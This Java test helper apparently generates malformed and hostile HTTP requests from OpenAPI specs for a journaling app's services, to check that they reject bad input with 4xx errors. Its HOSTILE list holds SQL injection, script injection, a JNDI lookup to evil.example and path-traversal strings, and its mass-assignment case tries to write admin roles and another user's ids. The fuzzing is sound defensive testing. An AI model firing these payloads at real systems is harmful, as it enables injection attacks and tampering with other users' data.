package app.detach.system;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

/**
 * A corpus of malformed requests generated from the services' OpenAPI documents: for every
 * operation, bad path parameters, bad query parameters, and bodies that break the documented
 * schema one way at a time (not JSON, invalid UTF-8, deep nesting, oversized, wrong types,
 * missing and null required fields, out-of-range numbers, unknown enum values, bad dates and time
 * zones, over-long strings), wrong content types and methods.
 *
 * <p>A case is <em>strict</em> when the request is invalid by the API's contract, so the answer must
 * be a 4xx problem. A few cases put hostile strings (SQL, script, control characters) where any
 * text is allowed (a journal body, a search query): they may be accepted, but must never cause a 5xx
 * or touch another user's data.
 */
final class MalformedRequests {

    static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory F = JsonNodeFactory.instance;

    static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "1; DROP TABLE journal_entry;--", "\" OR \"\"=\"", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "..%2F..%2Fq%2Fmetrics",
            "%00", "\u0000", "\u202Egnp.exe", "😀".repeat(10));
    private static final List<String> BAD_NUMBERS = List.of("abc", "-1", "-99999999999", "99999999999999999999",
            "1e309", "NaN", "0x10", "", " ", "1;2", "' OR 1=1--", "1.5", "5 OR 1=1", "0b101", "--5");
    private static final List<String> BAD_DATES = List.of("yesterday", "2024-13-45", "2024-02-30T25:61:00Z",
            "99999-01-01T00:00:00Z", "2024-01-01T00:00:00+25:00", "1' OR '1'='1", "0000-00-00", "-1");
    private static final List<String> BAD_ZONES = List.of("Mars/Olympus", "../../../etc/localtime", "UTC+99:00",
            "Europe/Berlin\u0000", "' OR 1=1--", "");

    /** One request of the corpus. */
    record Case(String kind, String method, String path, String contentType, byte[] body, boolean strict) {
        String describe() {
            String text = body == null ? "" : new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
            return kind + ": " + method + " " + (path.length() > 200 ? path.substring(0, 200) + "…" : path) + " " + text;
        }
    }

    /** One OpenAPI operation. */
    record Operation(String method, String template, List<JsonNode> parameters, JsonNode bodySchema) {
    }

    private final JsonNode components;
    private final Map<String, String> knownIds;
    private final Map<String, JsonNode> documentedBodies;
    private final List<Case> cases = new ArrayList<>();

    /**
     * @param knownIds real ids (e.g. another user's journal entry) to put into path parameters
     *                 whose template contains the key, so a malformed write aimed at them is tried too
     */
    MalformedRequests(JsonNode components, Map<String, String> knownIds, Map<String, JsonNode> documentedBodies) {
        this.components = components;
        this.knownIds = knownIds;
        this.documentedBodies = documentedBodies;
    }

    static List<Operation> operations(JsonNode openApi, Set<String> skipped) {
        List<Operation> operations = new ArrayList<>();
        openApi.path("paths").fields().forEachRemaining(path -> {
            List<JsonNode> shared = new ArrayList<>();
            path.getValue().path("parameters").forEach(shared::add);
            path.getValue().fields().forEachRemaining(op -> {
                String method = op.getKey().toUpperCase();
                if (!Set.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)
                        || skipped.contains(method + " " + path.getKey())) {
                    return;
                }
                List<JsonNode> parameters = new ArrayList<>(shared);
                op.getValue().path("parameters").forEach(parameters::add);
                JsonNode body = op.getValue().path("requestBody").path("content").path("application/json").path("schema");
                operations.add(new Operation(method, path.getKey(), parameters, body.isMissingNode() ? null : body));
            });
        });
        return operations;
    }

    List<Case> generate(Operation documented) {
        Operation op = documented.bodySchema() == null && documentedBodies.containsKey(documented.template())
                && Set.of("POST", "PUT").contains(documented.method())
                ? new Operation(documented.method(), documented.template(), documented.parameters(),
                        documentedBodies.get(documented.template()))
                : documented;
        int before = cases.size();
        Map<String, String> validPath = new LinkedHashMap<>();
        for (JsonNode p : op.parameters()) {
            if ("path".equals(p.path("in").asText())) {
                validPath.put(p.path("name").asText(), sampleParam(op.template(), p));
            }
        }
        byte[] validBody = op.bodySchema() == null ? null : bytes(example(
                documentedBodies.getOrDefault(op.template(), op.bodySchema()), 0));
        String validCt = op.bodySchema() == null ? null : "application/json";

        // path parameters: hostile and malformed values, one parameter at a time
        for (JsonNode p : op.parameters()) {
            if (!"path".equals(p.path("in").asText())) {
                continue;
            }
            String name = p.path("name").asText();
            List<String> values = new ArrayList<>(HOSTILE);
            values.addAll(List.of("-1", "0", "99999999999999999999", UUID.randomUUID().toString(), "x".repeat(3000),
                    "00000000-0000-0000-0000-00000000000g", " ", "null", "undefined", "..", ".", "*", "%", "%%",
                    "..;", "1.5", "true", UUID.randomUUID() + "/../..", UUID.randomUUID().toString().toUpperCase() + "x"));
            for (String v : values) {
                Map<String, String> params = new LinkedHashMap<>(validPath);
                params.put(name, v);
                // "." is a dot segment: the URL normalises to the parent path, which may exist
                add("path param " + name, op.method(), fill(op.template(), params), validCt,
                        op.bodySchema() == null ? null : "{}".getBytes(StandardCharsets.UTF_8), !v.equals("."));
            }
        }
        String path = fill(op.template(), validPath);

        // query parameters
        for (JsonNode p : op.parameters()) {
            if (!"query".equals(p.path("in").asText())) {
                continue;
            }
            String name = p.path("name").asText();
            JsonNode schema = resolve(p.path("schema"));
            String type = schema.path("type").asText("string");
            boolean freeText = type.equals("string") && !schema.has("enum") && !schema.has("format")
                    && !schema.has("pattern") && !name.toLowerCase().matches(".*(cursor|tz|zone|from|to|format|country|stage|limit).*");
            List<String> values = new ArrayList<>();
            if (type.equals("integer") || type.equals("number")
                    || name.toLowerCase().matches(".*(limit|days|mood|urge|intensity|count|size|page).*")) {
                values.addAll(BAD_NUMBERS);
            } else if (type.equals("boolean")) {
                values.addAll(List.of("maybe", "2", "' OR 1=1--", "yes please"));
            } else if (schema.path("format").asText().startsWith("date") || name.matches("from|to")) {
                values.addAll(BAD_DATES);
            } else if (name.toLowerCase().matches(".*(tz|zone).*")) {
                values.addAll(BAD_ZONES);
            } else if (name.toLowerCase().contains("cursor")) {
                values.addAll(List.of("not-a-cursor", "eyJ4IjoxfQ", "AAAA", "%00", "' OR 1=1--", "x".repeat(3000),
                        "MjAyNC0wMS0wMVQwMDowMDowMFp8bm90LWEtdXVpZA"));
            } else {
                values.addAll(HOSTILE);
                // long, but under the HTTP server's 4 KiB request-line limit (beyond it: a bare 414 from the codec)
                values.add("x".repeat(3000));
            }
            if (!values.containsAll(HOSTILE)) {
                values.addAll(HOSTILE);
            }
            for (String v : values) {
                // an empty or blank parameter counts as absent (the documented default applies)
                add("query " + name, op.method(), path + "?" + name + "=" + encode(v), validCt, validBody,
                        !freeText && !v.isBlank());
            }
        }

        if (op.bodySchema() != null) {
            bodyCases(op, path);
        } else if (!op.method().equals("GET") && !op.method().equals("DELETE")) {
            // a body where none is expected is ignored, so it may be accepted; a 5xx is still a failure
            add("unexpected body", op.method(), path, "application/json", "{\"x\":".getBytes(StandardCharsets.UTF_8), false);
        }
        // a method the resource does not have
        add("method", "PATCH", path, "application/json", "{}".getBytes(StandardCharsets.UTF_8), true);
        return cases.subList(before, cases.size());
    }

    private void bodyCases(Operation op, String path) {
        // a resource that reads a raw JsonNode documents Jackson's JsonNode, not its body: use its README's
        JsonNode schema = documentedBodies.containsKey(op.template())
                ? documentedBodies.get(op.template()) : resolve(op.bodySchema());
        ObjectNode valid = example(schema, 0) instanceof ObjectNode o ? o : F.objectNode();
        String m = op.method();
        for (String raw : List.of("", "{", "nope", "[1,2", "{\"a\":}", "null", "[]", "42", "\"text\"", "{}}", "{'a':1}",
                "{\"a\":1,}", "\u0000", "{\"mood\":NaN}")) {
            add("not JSON / wrong root", m, path, "application/json", raw.getBytes(StandardCharsets.UTF_8), true);
        }
        // invalid UTF-8 inside a string value
        ByteArrayOutputStream invalidUtf8 = new ByteArrayOutputStream();
        invalidUtf8.writeBytes("{\"".getBytes(StandardCharsets.UTF_8));
        invalidUtf8.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE});
        invalidUtf8.writeBytes("\":1}".getBytes(StandardCharsets.UTF_8));
        add("invalid UTF-8", m, path, "application/json", invalidUtf8.toByteArray(), true);
        add("invalid UTF-8 in a value", m, path, "application/json", withBadUtf8Value(valid), true);
        // deep nesting, as the body and inside a field
        add("deeply nested", m, path, "application/json", ("[".repeat(20_000) + "]".repeat(20_000)).getBytes(StandardCharsets.UTF_8), true);
        add("deeply nested object", m, path, "application/json",
                ("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)).getBytes(StandardCharsets.UTF_8), true);
        // content types
        byte[] validBytes = bytes(valid);
        for (String ct : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "image/png")) {
            add("content type " + ct, m, path, ct, validBytes, true);
        }
        // RFC 8259: JSON is UTF-8 and a charset parameter "has no effect on compliant recipients"
        add("content type with a bogus charset", m, path, "application/json; charset=EBCDIC", validBytes, false);
        // RFC 9110 lets a server examine a body sent without Content-Type; a JSON body may be accepted
        add("no content type", m, path, null, validBytes, false);

        // one field at a time
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> property = it.next();
            String field = property.getKey();
            JsonNode fieldSchema = resolve(property.getValue());
            for (JsonNode bad : badValues(field, fieldSchema)) {
                ObjectNode body = valid.deepCopy();
                body.set(field, bad);
                add("field " + field, m, path, "application/json", bytes(body), true);
            }
            if (required.contains(field)) {
                ObjectNode missing = valid.deepCopy();
                missing.remove(field);
                add("missing " + field, m, path, "application/json", bytes(missing), true);
                ObjectNode nulled = valid.deepCopy();
                nulled.putNull(field);
                add("null " + field, m, path, "application/json", bytes(nulled), true);
            }
            if ("string".equals(fieldSchema.path("type").asText()) && !fieldSchema.has("enum")
                    && !fieldSchema.has("format") && !field.toLowerCase().matches(".*(zone|time|email|slug|country|phone|url|kind|stage|status).*")) {
                // hostile text where free text is allowed: may be stored, must not break anything
                for (String hostile : HOSTILE) {
                    ObjectNode body = valid.deepCopy();
                    body.put(field, hostile);
                    add("hostile text in " + field, m, path, "application/json", bytes(body), false);
                }
            }
        }
        // extra fields trying to write someone else's data (mass assignment): may be ignored, never obeyed
        ObjectNode extra = valid.deepCopy();
        extra.put("userId", knownIds.getOrDefault("userId", UUID.randomUUID().toString()));
        extra.put("user_id", knownIds.getOrDefault("userId", UUID.randomUUID().toString()));
        extra.put("id", knownIds.getOrDefault("entries", UUID.randomUUID().toString()));
        extra.putObject("__proto__").put("admin", true);
        extra.put("roles", "admin");
        add("extra fields (mass assignment)", m, path, "application/json", bytes(extra), false);
        if (!required.isEmpty()) {
            ObjectNode extraAndMissing = extra.deepCopy();
            extraAndMissing.remove(required.get(0));
            add("extra fields, required missing", m, path, "application/json", bytes(extraAndMissing), true);
        }
        // an oversized body
        ObjectNode huge = valid.deepCopy();
        huge.put(schema.path("properties").fieldNames().hasNext() ? schema.path("properties").fieldNames().next() : "x",
                "x".repeat(2_000_000));
        add("2 MB field", m, path, "application/json", bytes(huge), true);
    }

    private List<JsonNode> badValues(String field, JsonNode schema) {
        List<JsonNode> values = new ArrayList<>();
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        boolean constrained = !type.equals("string") || schema.has("enum") || schema.has("format") || schema.has("pattern")
                || field.matches("(?i).*(zone|email|At|date|time|start|end|kind)$");
        if (constrained && !type.equals("array") && !type.equals("object")) {
            // SQL, script and control-character strings where the type or format cannot hold them
            HOSTILE.forEach(h -> values.add(F.textNode(h)));
        }
        if (!type.equals("object")) {
            values.add(F.objectNode().put("nested", "object"));
        }
        values.add(F.arrayNode().add(1).add(F.arrayNode()));
        switch (type) {
            case "integer", "number" -> {
                values.add(F.textNode("abc"));
                values.add(F.booleanNode(true));
                values.add(F.numberNode(new java.math.BigInteger("99999999999999999999999")));
                values.add(F.textNode("1e400"));
                values.add(F.numberNode(new java.math.BigDecimal("1e400")));
                if (schema.has("minimum")) {
                    values.add(F.numberNode(schema.path("minimum").asLong() - 1));
                    values.add(F.numberNode(-2147483648L));
                }
                if (schema.has("maximum")) {
                    values.add(F.numberNode(schema.path("maximum").asLong() + 1));
                    values.add(F.numberNode(Long.MAX_VALUE));
                }
            }
            case "boolean" -> {
                values.add(F.textNode("maybe"));
                values.add(F.numberNode(2));
            }
            case "array" -> {
                values.add(F.textNode("not an array"));
                ArrayNode wrongItems = F.arrayNode().add(F.objectNode().put("x", 1)).add(F.arrayNode());
                values.add(wrongItems);
                if (schema.has("maxItems")) {
                    ArrayNode tooMany = F.arrayNode();
                    for (int i = 0; i <= schema.path("maxItems").asInt(); i++) {
                        tooMany.add(example(resolve(schema.path("items")), 1));
                    }
                    values.add(tooMany);
                }
                JsonNode items = resolve(schema.path("items"));
                if (items.has("enum")) {
                    values.add(F.arrayNode().add("NOT_A_VALUE"));
                }
                if (items.has("maxLength")) {
                    values.add(F.arrayNode().add("x".repeat(items.path("maxLength").asInt() + 1)));
                }
            }
            case "object" -> values.add(F.textNode("not an object"));
            default -> {
                if (schema.has("enum")) {
                    values.add(F.textNode("NOT_A_VALUE"));
                    values.add(F.textNode("' OR 1=1--"));
                    values.add(F.textNode("<script>alert(1)</script>"));
                }
                if (schema.has("maxLength")) {
                    values.add(F.textNode("x".repeat(schema.path("maxLength").asInt() + 1)));
                }
                String format = schema.path("format").asText();
                if (format.startsWith("date") || field.toLowerCase().matches(".*(at|date|day)$")) {
                    BAD_DATES.forEach(d -> values.add(F.textNode(d)));
                }
                if (field.toLowerCase().contains("zone")) {
                    BAD_ZONES.forEach(z -> values.add(F.textNode(z)));
                }
                if (field.toLowerCase().contains("email")) {
                    values.add(F.textNode("not-an-email"));
                    values.add(F.textNode("a@b"));
                }
                if (field.toLowerCase().matches(".*(time|start|end)$") && !format.startsWith("date")) {
                    values.add(F.textNode("25:99"));
                    values.add(F.textNode("noon"));
                }
            }
        }
        return values;
    }

    /** A plausible valid value for a schema, so each case breaks exactly one thing. */
    JsonNode example(JsonNode raw, int depth) {
        JsonNode schema = resolve(raw);
        if (schema.has("allOf")) {
            return example(schema.path("allOf").get(0), depth);
        }
        if (schema.has("enum")) {
            return schema.path("enum").get(0);
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        switch (type) {
            case "object" -> {
                ObjectNode object = F.objectNode();
                if (depth < 4) {
                    schema.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), exampleField(p.getKey(), p.getValue(), depth)));
                }
                return object;
            }
            case "array" -> {
                return F.arrayNode();
            }
            case "integer", "number" -> {
                long min = schema.has("minimum") ? schema.path("minimum").asLong() : 1;
                long max = schema.has("maximum") ? schema.path("maximum").asLong() : Math.max(min, 5);
                return F.numberNode(Math.max(min, Math.min(max, 5)));
            }
            case "boolean" -> {
                return F.booleanNode(false);
            }
            default -> {
                String format = schema.path("format").asText();
                if (format.equals("date-time")) {
                    return F.textNode(Instant.now().minusSeconds(60).toString());
                }
                if (format.equals("date")) {
                    return F.textNode("2024-01-01");
                }
                if (format.equals("uuid")) {
                    return F.textNode(UUID.randomUUID().toString());
                }
                return F.textNode("text");
            }
        }
    }

    private JsonNode exampleField(String name, JsonNode schema, int depth) {
        String n = name.toLowerCase();
        JsonNode resolved = resolve(schema);
        if (n.contains("zone")) {
            return F.textNode("Europe/Berlin");
        }
        if (n.contains("email") && "string".equals(resolved.path("type").asText("string"))) {
            return F.textNode("someone@detach.test");
        }
        if (n.matches(".*(localtime|start|end)$") && "string".equals(resolved.path("type").asText("string"))
                && !resolved.path("format").asText().startsWith("date")) {
            return F.textNode(n.endsWith("end") ? "07:00" : "22:00");
        }
        return example(schema, depth + 1);
    }

    JsonNode resolve(JsonNode schema) {
        JsonNode current = schema;
        for (int i = 0; i < 10 && current.has("$ref"); i++) {
            String ref = current.path("$ref").asText();
            current = components.path("schemas").path(ref.substring(ref.lastIndexOf('/') + 1));
        }
        return current;
    }

    private String sampleParam(String template, JsonNode parameter) {
        String known = knownIds.entrySet().stream().filter(e -> template.contains(e.getKey()))
                .map(Map.Entry::getValue).findFirst().orElse(null);
        if (known != null) {
            return known;
        }
        String type = resolve(parameter.path("schema")).path("type").asText("string");
        return type.equals("integer") ? "1" : UUID.randomUUID().toString();
    }

    private void add(String kind, String method, String path, String contentType, byte[] body, boolean strict) {
        if (!strict && path.startsWith("/api/admin/")) {
            // acceptable input on admin routes would really publish a broadcast or an article to everyone
            return;
        }
        cases.add(new Case(kind, method, path, contentType, body, strict));
    }

    private static String fill(String template, Map<String, String> params) {
        String path = template;
        for (Map.Entry<String, String> p : params.entrySet()) {
            path = path.replace("{" + p.getKey() + "}", encode(p.getValue()));
        }
        return path;
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] withBadUtf8Value(ObjectNode valid) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        String json = valid.toString();
        int quote = json.indexOf(":\"");
        if (quote < 0) {
            out.writeBytes("{\"x\":\"".getBytes(StandardCharsets.UTF_8));
            out.writeBytes(new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
            out.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
            return out.toByteArray();
        }
        out.writeBytes(json.substring(0, quote + 2).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
        out.writeBytes(json.substring(quote + 2).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }
}
